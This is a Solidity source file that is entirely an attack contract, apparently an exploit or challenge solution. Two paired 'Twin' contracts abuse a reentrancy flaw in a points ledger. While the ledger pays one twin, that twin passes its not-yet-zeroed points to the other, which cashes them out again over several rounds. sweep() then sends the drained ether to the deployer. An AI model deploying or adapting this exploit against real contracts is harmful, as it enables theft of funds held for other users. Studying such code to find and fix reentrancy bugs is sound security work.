pragma solidity 0.7.6;

interface ILedger {
    function buy() external payable;
    function give(address to, uint256 amount) external;
    function cashOut() external;
    function points(address who) external view returns (uint256);
}

/// Two contracts passing the same points back and forth: while one is being paid, it gives its
/// not-yet-zeroed points to its twin, which cashes them out again.
contract Twin {
    ILedger public ledger;
    Twin public other;
    address payable public boss;
    uint256 public rounds;

    constructor(ILedger _ledger) {
        ledger = _ledger;
        boss = msg.sender;
    }

    function pair(Twin _other) external {
        other = _other;
    }

    function start(uint256 times) external payable {
        rounds = times;
        ledger.buy{value: msg.value}();
        ledger.cashOut();
    }

    function relay(uint256 times) external {
        rounds = times;
        ledger.cashOut();
    }

    receive() external payable {
        if (rounds > 0) {
            uint256 mine = ledger.points(address(this));
            ledger.give(address(other), mine);
            other.relay(rounds - 1);
        }
        rounds = 0;
    }

    function sweep() external {
        boss.transfer(address(this).balance);
    }
}
